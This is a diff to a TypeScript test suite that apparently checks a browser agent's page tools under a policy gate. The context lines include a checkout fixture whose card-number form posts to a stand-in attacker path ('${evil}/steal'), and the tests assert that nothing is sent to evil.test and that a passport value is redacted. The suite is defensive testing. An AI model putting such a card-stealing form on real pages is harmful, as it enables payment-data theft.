@@ -28,7 +28,10 @@ const checkout = (evil: string): string => `<!doctype html><title>Checkout</titl
 <form action="${evil}/steal" method="post"><label>Billing card <input name="billing" autocomplete="cc-number"></label><button>Save billing</button></form>
 <button onclick="document.getElementById('status').textContent = confirm('Show the advanced options?') ? 'Advanced options shown' : 'Advanced options hidden'">Show advanced options</button>
 <label>Document <input type="file" id="doc" onchange="document.getElementById('status').textContent = 'Chosen: ' + [...this.files].map((f) => f.name + ' (' + f.size + ' bytes)').join(', ')"></label>
-<button onclick="document.getElementById('status').textContent = 'Order placed'">Place order</button>`;
+<button onclick="document.getElementById('status').textContent = 'Order placed'">Place order</button>
+<label>Shipping <select onchange="document.getElementById('status').textContent = 'Shipping: ' + this.value"><option>Standard</option><option>Express</option></select></label>
+<button onmouseover="document.getElementById('status').textContent = 'Help shown'">Help</button>
+<div style="height: 3000px"></div><p id="end">End of the checkout</p>`;
 
 /** A page of random pixels: its screenshot is far larger than one native message may comfortably carry. */
 const NOISE = `<!doctype html><title>Noise</title><body style="margin:0"><canvas id="c"></canvas><script>
@@ -160,6 +163,29 @@ describe('deputy mcp under the policy gate like a task: dialogs, uploads, the eg
     const held = await leaving;
     expect(held.text).not.toContain('5500');
     expect(server.requests.filter((request) => request.startsWith('evil.test'))).toEqual([]);
+    await agent.close();
+  });
+
+  it('the other page tools work for an agent as for a task: find (redacted), select, hover, scroll, press, tabs and back', async () => {
+    const { agent, snapshot } = await onCheckout('tools-agent');
+    const found = await agent.call('browser_find', { text: 'Passport on file' });
+    expect(found.isError, found.text).toBe(false);
+    expect(found.text).toContain('{{passport_number}}');
+    expect(found.text).not.toContain(PASSPORT);
+    expect((await agent.call('browser_select', { ref: refOf(snapshot, 'combobox', 'Shipping'), values: ['Express'] })).isError).toBe(false);
+    expect(await statusOf('tools-agent')).toBe('Shipping: Express');
+    expect((await agent.call('browser_hover', { ref: refOf(snapshot, 'button', 'Help') })).isError).toBe(false);
+    expect(await statusOf('tools-agent')).toBe('Help shown');
+    const scrolled = await agent.call('browser_scroll', { direction: 'down', pages: 10 });
+    expect(scrolled.isError, scrolled.text).toBe(false);
+    expect(await (await tabOf('tools-agent')).evaluate(() => window.scrollY)).toBeGreaterThan(0);
+    expect((await agent.call('browser_press', { key: 'Home' })).isError).toBe(false);
+    const tabs = await agent.call('browser_tabs', { action: 'list' });
+    expect(tabs.text).toContain(server.url('/checkout?agent=tools-agent', 'shop.test'));
+    expect((await agent.call('browser_navigate', { url: server.url('/noise', 'shop.test') })).isError).toBe(false);
+    const back = await agent.call('browser_back');
+    expect(back.isError, back.text).toBe(false);
+    expect((await agent.call('browser_snapshot')).text).toContain('# Checkout');
     await agent.close();
   });
 
